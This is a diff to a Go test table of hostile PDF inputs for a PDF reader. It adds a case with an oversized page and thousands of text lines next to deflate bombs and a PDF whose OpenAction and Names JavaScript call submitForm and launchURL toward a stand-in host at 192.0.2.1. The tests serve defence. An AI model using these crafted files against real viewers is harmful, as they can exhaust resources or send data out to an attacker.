@@ -104,6 +104,8 @@ func TestHostile(t *testing.T) {
 		{"300 megabytes that were 300 kilobytes", objects(catalog, onePage, aPage, stream("/Filter/FlateDecode", deflated(strings.Repeat(" ", 1<<20), 300)), aFont), "太大"},
 		{"millions of lines", objects(catalog, onePage, aPage, stream("/Filter/FlateDecode", deflated("0 0 m 9 9 l S\n", 500_000)), aFont), "太多"},
 		{"millions of letters", objects(catalog, onePage, aPage, stream("/Filter/FlateDecode", deflated("BT /F1 1 Tf 2 TL 0 800 Td "+strings.Repeat("(report 2022) Tj T* ", 100_000)+"ET", 1)), aFont), "，没有读。"},
+		{"lines of amounts without end", objects(catalog, onePage, strings.Replace(aPage, "600 800", "600 60000", 1), stream("/Filter/FlateDecode",
+			deflated("BT /F1 9 Tf 12 TL 50 59990 Td "+strings.Repeat("(report 2022) Tj 300 0 Td (1.00) Tj 60 0 Td (2.00) Tj -360 0 Td T* ", 4000)+"ET", 1)), aFont), ""},
 		{"rules without end", objects(catalog, onePage, aPage, stream("/Filter/FlateDecode", deflated(grating(), 1)), aFont), "report 2022"},
 		{"actions and other files", objects("<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\('http://192.0.2.1/'\\))>>"+
 			"/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.launchURL\\('http://192.0.2.1/'\\))>>]>>>>>>", onePage,
